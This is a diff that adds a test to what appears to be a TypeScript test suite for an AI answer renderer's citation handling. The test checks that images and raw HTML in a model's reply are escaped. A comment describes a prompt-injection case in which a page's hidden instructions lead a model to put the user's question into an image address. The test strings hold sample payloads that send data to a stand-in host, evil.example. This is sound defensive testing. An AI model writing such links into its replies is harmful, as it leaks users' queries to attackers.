@@ -147,6 +147,19 @@ describe("what a model writes cannot send a citation elsewhere", () => {
     expect(renumbered("Write `<a href=x>[1]</a>` or <b>[1]</b>, a <abbr>, a<b.").text).toBe("Write `<a href=x>[1]</a>` or <b>[1]</b>, a <abbr>, a<b.");
   });
 
+  it("escapes what would make a renderer load an address as it shows the reply: an image, raw HTML that loads", () => {
+    // A page's hidden instructions could have a model write the question into an image's address.
+    const reply = 'Done [1]. ![logo](https://evil.example/p?q=my+question) <IMG src="https://evil.example/i"> <picture><source srcset="x"></picture>';
+    const { text } = renumbered(reply);
+    expect(text).toBe(
+      'Done [1]. \\![logo](https://evil.example/p?q=my+question) \\<IMG src="https://evil.example/i"> \\<picture>\\<source srcset="x"></picture>',
+    );
+    const html = new Marked({ gfm: true }).parse(text) as string;
+    expect(html).not.toMatch(/<img|<picture|<source/i);
+    // Still read as a citation after it, and left alone in code.
+    expect(renumbered("Great![2] `![x](y)`").text).toBe("Great\\![1] `![x](y)`");
+  });
+
   it("drops numbers past the references: left, they would cite nothing, or another page once renumbered", () => {
     expect(renumbered("Tokens [3]. They rotate daily [1, 99].", 3)).toEqual({ text: "Tokens [1]. They rotate daily [2].", order: [3, 1] });
     expect(renumbered("Both [5, 6] hold.", 5)).toEqual({ text: "Both [1] hold.", order: [5] });
